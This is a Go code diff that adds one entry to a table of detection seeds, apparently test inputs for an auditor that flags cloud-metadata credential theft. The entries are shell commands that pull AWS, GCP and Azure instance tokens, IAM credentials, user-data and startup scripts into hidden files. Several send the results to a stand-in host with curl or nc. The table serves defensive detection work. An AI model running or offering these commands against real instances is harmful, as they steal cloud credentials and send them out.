@@ -63,6 +63,7 @@ var techniqueSeeds = []stealthSeed{
 	{"imds-creds", RuleCredStage, audit.High, "", "T=$(curl -s -H 'Metadata-Flavor: Google' 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token')\necho \"$T\" >> /tmp/.gt"},
 	{"imds-creds", RuleCredStage, audit.High, "", "wget -q -O /dev/shm/.az --header 'Metadata: true' 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'"},
 	{"imds-creds", RuleCredStage, audit.High, "", "H='http://[fd00:ec2::254]'\nROLE=$(curl -s $H/latest/meta-data/iam/security-credentials/)\ncurl -s $H/latest/meta-data/iam/security-credentials/$ROLE | tee /opt/.r.json"},
+	{"imds-creds", RuleCredStage, audit.High, "", "curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/attributes/startup-script > /var/tmp/.ss\ncurl -s http://169.254.169.254/latest/user-data -o /var/tmp/.ud"},
 	{"imds-creds", RuleCredSend, audit.Critical, "", "C=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web)\ncurl -s -d \"$C\" https://203.0.113.9/c"},
 	{"imds-creds", RuleCredSend, audit.High, "", "curl -s http://169.254.169.254/latest/user-data | curl -s -T - https://203.0.113.9/ud"},
 	{"imds-creds", RuleCredSend, audit.Critical, "", "get() { curl -s -H 'Metadata-Flavor: Google' \"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/$1/token\"; }\nget default | nc 203.0.113.9 443"},
